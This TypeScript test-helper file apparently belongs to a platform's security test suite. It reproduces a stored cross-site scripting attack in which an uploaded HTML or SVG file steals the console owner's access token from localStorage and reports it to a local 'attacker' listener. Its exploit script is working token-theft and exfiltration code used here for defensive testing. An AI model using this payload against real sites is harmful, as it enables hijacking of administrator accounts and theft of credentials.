/**
 * The end user → owner attack (issue 29 item 5), as the attacker runs it: user content (a function's
 * answer, a stored object) that, once the owner opens it in the browser they use the console in,
 * reads the console's access token and calls the Management API with it, then reports to a sink
 * (a listener of the attacker's). A report means the content ran script; `token` what it could read.
 */
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { Page } from 'playwright-core';
import { signJwt } from '../../src/auth/jwt.js';
import { withClient } from '../../src/db/pool.js';
import type { ProjectContext } from '../../src/platform/project-context.js';
import type { TestPlatform } from '../support/platform.js';
import { eventually } from '../support/eventually.js';

/** Where the console keeps the signed-in access token (console/src/session.ts). */
export const TOKEN_KEY = 'strata.console.accessToken';

export interface Report {
  where: string;
  token: string;
  management: string;
}

export interface Sink {
  url: string;
  reports: Report[];
  close(): Promise<void>;
}

/** The attacker's listener: every request to it is a report. */
export async function startSink(): Promise<Sink> {
  const reports: Report[] = [];
  const server: Server = createServer((req, res) => {
    // A page of the attacker's own site (another origin than the platform's).
    if (req.url === '/page')
      return res.writeHead(200, { 'content-type': 'text/html' }).end('<p>elsewhere</p>');
    const q = new URL(req.url ?? '/', 'http://sink').searchParams;
    reports.push({ where: q.get('where') ?? '', token: q.get('t') ?? '', management: q.get('s') ?? '' });
    res.writeHead(204, { 'access-control-allow-origin': '*' }).end();
  });
  await new Promise<void>((r) => server.listen(0, '127.0.0.1', r));
  const { port } = server.address() as AddressInfo;
  return {
    url: `http://127.0.0.1:${port}`,
    reports,
    close: () => new Promise((r) => server.close(() => r())),
  };
}

/**
 * The script: the console's token from this origin's localStorage, the Management API called with
 * it (same origin: no CORS in the way), both reported to the sink. No `<`, `&`: it goes into SVG/XML.
 */
export function exploitScript(sink: string): string {
  // One line: it also goes into a Location header.
  return `(async function () {
  var t = 'none', s = 'none';
  try { t = String(localStorage.getItem('${TOKEN_KEY}')); } catch (e) { t = 'blocked:' + e.name; }
  try { var r = await fetch('/v1/organizations', { headers: { authorization: 'Bearer ' + t } }); s = String(r.status); } catch (e) { s = 'blocked:' + e.name; }
  var q = new URLSearchParams({ where: location.href, t: t, s: s });
  try { await fetch('${sink}/report?' + q, { mode: 'no-cors' }); } catch (e) { new Image().src = '${sink}/report?' + q; }
})();`.replace(/\n\s*/g, ' ');
}

export const exploitHtml = (sink: string): string =>
  `<!doctype html><html><head><title>cat pictures</title></head><body><p>cats</p><script>${exploitScript(sink)}</script></body></html>`;

export const exploitSvg = (sink: string): string =>
  `<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><rect width="10" height="10"/><script type="application/ecmascript"><![CDATA[${exploitScript(sink)}]]></script></svg>`;

/** The owner signs in to the console through a printed one-time link; the token is then in localStorage. */
export async function ownerSignsIn(page: Page, tp: TestPlatform): Promise<string> {
  const token = tp.platform.defaultAccessToken;
  await page.goto(tp.consoleLoginUrl(token));
  await page.waitForFunction((key) => localStorage.getItem(key) !== null, TOKEN_KEY, { timeout: 15_000 });
  return token;
}

/**
 * The owner opens `url`; the reports the sink got for it within `ms` (a script that runs reports
 * within a few hundred milliseconds; one that does not run never does).
 */
export async function ownerOpens(page: Page, sink: Sink, url: string, ms = 1500): Promise<Report[]> {
  const before = sink.reports.length;
  await page.goto(url, { waitUntil: 'load' }).catch(() => undefined);
  await eventually(() => sink.reports.length !== before, { timeoutMs: ms }).catch(() => {});
  return sink.reports.slice(before);
}

/** An authenticated end user's JWT for the project (any sign-up gets one). */
export function endUserJwt(project: ProjectContext): Promise<string> {
  return signJwt(project.jwtSecret, {
    role: 'authenticated',
    sub: '00000000-0000-4000-8000-00000000beef',
    exp: Math.floor(Date.now() / 1000) + 3600,
  });
}

/** As the owner: a public bucket end users may upload to (a common avatars setup). */
export async function publicUploadBucket(
  tp: TestPlatform,
  project: ProjectContext,
  id: string,
): Promise<void> {
  const res = await fetch(`${tp.url}/project/${project.ref}/storage/v1/bucket`, {
    method: 'POST',
    headers: {
      apikey: project.serviceRoleKey,
      authorization: `Bearer ${project.serviceRoleKey}`,
      'content-type': 'application/json',
    },
    body: JSON.stringify({ id, name: id, public: true }),
  });
  if (!res.ok) throw new Error(`bucket: ${res.status} ${await res.text()}`);
  await withClient(project.superuserUrl, (c) =>
    c.query(
      `create policy "uploads ${id}" on storage.objects for insert to authenticated with check (bucket_id = '${id}')`,
    ),
  );
}

/** As the end user: uploads `body` with the content type of their choice. */
export async function endUserUploads(
  tp: TestPlatform,
  project: ProjectContext,
  bucket: string,
  name: string,
  body: string,
  contentType: string,
): Promise<void> {
  const jwt = await endUserJwt(project);
  const res = await fetch(`${tp.url}/project/${project.ref}/storage/v1/object/${bucket}/${name}`, {
    method: 'POST',
    headers: { apikey: project.anonKey, authorization: `Bearer ${jwt}`, 'content-type': contentType },
    body,
  });
  if (!res.ok) throw new Error(`upload ${name}: ${res.status} ${await res.text()}`);
}
